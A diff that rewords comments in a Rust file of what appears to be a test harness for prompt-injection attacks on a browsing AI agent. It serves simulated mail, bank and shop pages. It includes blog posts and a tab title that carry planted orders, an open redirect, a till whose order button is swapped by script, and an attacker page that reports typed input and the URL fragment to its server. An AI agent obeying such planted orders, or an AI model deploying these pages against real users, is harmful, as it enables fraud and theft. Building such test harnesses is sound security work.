@@ -1,4 +1,4 @@
-//! What the hosts of the matrix show: the person's mail, bank and shop, a blog where others write, and the attacker's own pages.
+//! The hosts of the matrix: the user's mail, bank and shop, a blog where others write, and the attacker's own pages.
 
 use percent_encoding::percent_decode_str;
 use std::sync::Arc;
@@ -7,10 +7,10 @@ use xtask::internet::{Answer, Hit};
 
 use super::cases::{CARDS, Carrier, Case, EFFECTS, Word};
 
-/// How many cases share one mailbox page, and so one run at most.
+/// How many cases share a mailbox page, and so a run, at most.
 pub const BATCH: usize = 10;
 
-/// Answers for every host there is.
+/// Serves every host.
 pub fn answer(cases: &Arc<Vec<Case>>, hit: &Hit) -> Answer {
     let (path, _) = hit.path.split_once('?').unwrap_or((&hit.path, ""));
     match hit.host.as_str() {
@@ -20,7 +20,7 @@ pub fn answer(cases: &Arc<Vec<Case>>, hit: &Hit) -> Answer {
         "bank.example" => Answer::Page(bank()),
         "other.example" => other(cases, path),
         _ if path.ends_with(".exe") || path.ends_with(".scr") => Answer::File("setup.exe".into()),
-        // The attacker's hosts, and devices of the person's own network.
+        // The attacker's hosts, and devices of the user's own network.
         _ => Answer::Page(evil()),
     }
 }
@@ -39,7 +39,7 @@ fn number(path: &str) -> usize {
 
 fn mail(cases: &[Case], hit: &Hit, path: &str) -> Answer {
     if path.starts_with("/go") {
-        // What many sites have: an address that leads anywhere.
+        // An open redirect, as many sites have.
         let to = hit.path.split_once("to=").map_or("", |(_, to)| to);
         return Answer::Redirect(percent_decode_str(to).decode_utf8_lossy().into_owned());
     }
@@ -63,7 +63,7 @@ fn mail(cases: &[Case], hit: &Hit, path: &str) -> Answer {
     page("Mail", &main)
 }
 
-/// The page that a case's order stands on.
+/// The page with a case's order.
 fn blog(cases: &[Case], path: &str) -> Answer {
     let Some(case) = cases.get(number(path)) else {
         return page("A post", "<p>A post about lamps.</p><a href=\"/\">Home</a>");
@@ -163,7 +163,7 @@ fn shop(path: &str) -> Answer {
     page("Shop", &main.replace("{{", "{").replace("}}", "}"))
 }
 
-/// A till whose button becomes something else when `swap` is called.
+/// A till whose button changes when `swap` is called.
 const SWAPPED: &str = "<h1>Till</h1><form id=f method=post action=\"/do/order\"><label>Amount <input id=a name=amount value=\"1\"></label>\
     <button id=b>Place order</button></form><p id=p></p><script>\
     globalThis.swap = how => { const b = document.getElementById('b'), f = document.getElementById('f'), a = document.getElementById('a');\
@@ -182,7 +182,7 @@ fn bank() -> String {
     html("Bank", main)
 }
 
-/// A tab of the person's whose title somebody else wrote.
+/// A tab of the user's whose title somebody else wrote.
 fn other(cases: &[Case], path: &str) -> Answer {
     let first = number(path);
     let orders: Vec<String> = cases
@@ -195,7 +195,7 @@ fn other(cases: &[Case], path: &str) -> Answer {
     page(&orders.join(" "), "<p>Something to read.</p>")
 }
 
-/// It tells its server everything that is typed into it, and the part of the address that no server is told.
+/// Reports everything typed into it, and the fragment of its address, to its server.
 fn evil() -> String {
     let main = "<h1>Survey</h1><form method=post action=\"/collect\"><label>Note <input name=note></label><button>Go</button></form>\
         <label>Find <input type=search name=q></label><label>File <input type=file id=file></label><button>Go on</button><script>\
